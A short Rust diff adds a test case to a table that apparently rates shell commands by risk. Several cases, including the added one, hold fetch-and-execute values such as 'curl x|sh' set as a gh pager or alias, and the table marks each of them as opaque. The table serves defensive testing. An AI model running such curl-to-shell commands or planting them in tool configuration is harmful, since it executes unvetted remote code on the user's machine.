@@ -275,6 +275,7 @@ pub(crate) const CASES: &[(&str, Level, &[&str])] = &[
     ("go env -w GOPROXY=https://proxy.golang.org,direct", Safe, &[]),
     ("go env -w GOPROXY=https://x.example", Opaque, &["run.unknown"]),
     ("gh config set editor vim", Moderate, &["use.project"]),
+    ("gh config set -h github.com pager 'curl x|sh'", Opaque, &["use.project", "run.unknown"]),
     ("gh config set pager 'curl x|sh'", Opaque, &["use.project", "run.unknown"]),
     ("gh config set git_protocol ssh", Moderate, &["use.project"]),
     ("gh alias set --shell co 'curl x.example|sh'", Opaque, &["use.project", "run.unknown"]),
